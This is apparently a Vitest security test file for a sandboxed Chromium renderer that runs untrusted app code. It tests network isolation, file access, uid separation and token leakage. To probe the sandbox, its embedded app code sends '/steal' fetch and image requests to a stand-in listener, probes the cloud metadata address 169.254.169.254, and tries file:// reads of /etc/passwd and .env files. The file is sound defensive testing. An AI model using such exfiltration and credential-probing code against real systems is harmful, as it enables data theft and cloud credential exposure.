import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { jailUids } from '../../src/server/apps/build/sandbox/sandbox-command';
import { HeadlessBrowser } from '../../src/server/apps/render/headless-browser';
import { loadTemplate } from '../../src/server/apps/template/project-template';
import { createLogger } from '../../src/server/core/logger';
import { inProduct } from '../../src/server/core/product-root';
import { cloudIdentities } from '../../src/server/db/schema';
import { signedInBrowser } from '../support/auth-session';
import { jailedUids } from '../support/jailed-processes';
import { startTestServer, type TestServer } from '../support/test-server';

// The agent's page render runs strangers' code in Chromium. As an attacker who controls the app's
// files (or has broken the renderer), try to reach the network, read the server's files, run as
// the server's user, or turn the render against the preview's backend.

const binary = '/usr/lib/chromium/chromium';
let server: TestServer;
let listener: Server;
let listenerUrl = '';
const hits: string[] = [];
const browser = new HeadlessBrowser({ binary, idleMs: 60_000, logger: createLogger('silent') });

beforeAll(async () => {
  server = await startTestServer();
  listener = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.end('secret');
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await browser.close();
  await server.close();
  await new Promise((resolve) => listener.close(resolve));
});

const appWith = (app: string) => new Map(Object.entries({ ...loadTemplate(), 'src/App.tsx': app }));

async function ownedProject() {
  const session = await signedInBrowser(server);
  const project = await (await session.browser.post('/api/projects', { prompt: 'An app' })).json();
  return project.id as string;
}

describe('the render jail', { timeout: 60_000 }, () => {
  it('has no network: a page cannot reach a port on this machine', async () => {
    const error = await browser.withPage((page) => page.goto(`${listenerUrl}/from-the-browser`).catch((e) => e));
    expect(String(error)).toMatch(/ERR_CONNECTION_REFUSED|ERR_ADDRESS_UNREACHABLE|ERR_INTERNET_DISCONNECTED/);
    expect(hits).toEqual([]);
  });

  it('cannot read the server’s files, though it reads its own fonts', async () => {
    const read = (path: string) =>
      browser.withPage(async (page) => {
        const response = await page.goto(`file://${path}`).catch((e: Error) => e);
        return response instanceof Error ? response.message : await page.content();
      });
    expect(await read('/etc/fonts/fonts.conf')).toContain('fontconfig');
    for (const secret of [inProduct('package.json'), inProduct('.env.example'), '/etc/passwd', '/root'])
      expect(await read(secret)).toMatch(/ERR_FILE_NOT_FOUND|ERR_ACCESS_DENIED/);
  });

  it.runIf(process.getuid?.() === 0)(
    'runs as an unprivileged uid of its own, in a PID namespace of its own',
    async () => {
      const jailed = await browser.withPage(async () => jailedUids((command) => command.startsWith(binary)));
      expect(jailed.length).toBeGreaterThan(0);
      expect(new Set(jailed)).toEqual(new Set([String(jailUids.render)]));
    },
  );
});

describe('an app’s render', { timeout: 60_000 }, () => {
  it('lets no request to another host leave, and does not count them as the app’s errors', async () => {
    const projectId = await ownedProject();
    const app = `export default function App() {
  void fetch('${listenerUrl}/steal?from=fetch').catch(() => undefined);
  void fetch('http://169.254.169.254/latest/meta-data/').catch(() => undefined);
  return <main><h1>Hello</h1><img alt="" src="${listenerUrl}/steal?from=img" /></main>;
}
`;
    const outcome = await server.deps.renders.render(projectId, appWith(app), ['/']);
    expect(outcome).toMatchObject({ rendered: true, pages: [{ headings: ['Hello'], problems: [] }] });
    expect(hits).toEqual([]);
  });

  it('acts as the owner’s preview: no device is made, however often it renders', async () => {
    const projectId = await ownedProject();
    const app = `import { useEffect, useState } from 'react';
export default function App() {
  const [said, setSaid] = useState('asking');
  useEffect(() => {
    const grant = document.querySelector('meta[name="shipwright-grant"]')?.getAttribute('content') ?? '';
    fetch('/_cloud/v1/identity', { method: 'POST', headers: { 'x-shipwright-grant': grant } })
      .then((r) => setSaid(String(r.status)));
  }, []);
  return <h1>{said}</h1>;
}
`;
    for (let i = 0; i < 4; i++) {
      const outcome = await server.deps.renders.render(projectId, appWith(app), ['/']);
      expect(outcome).toMatchObject({ rendered: true, pages: [{ headings: ['200'], problems: [] }] });
    }
    const identities = await server.deps.db
      .select({ kind: cloudIdentities.kind, tokenHash: cloudIdentities.tokenHash })
      .from(cloudIdentities)
      .where(eq(cloudIdentities.projectId, projectId));
    expect(identities).toEqual([{ kind: 'device', tokenHash: `owner:${projectId}:preview` }]);
  });

  it('keeps the grant out of what it reports', async () => {
    const projectId = await ownedProject();
    const app = `export default function App() {
  throw new Error('broken on purpose');
}
`;
    const outcome = await server.deps.renders.render(projectId, appWith(app), ['/']);
    const reported = JSON.stringify(outcome);
    expect(reported).toContain('broken on purpose');
    expect(reported).not.toContain('token=');
    expect(reported).not.toContain(`p-${projectId}`);
  });
});
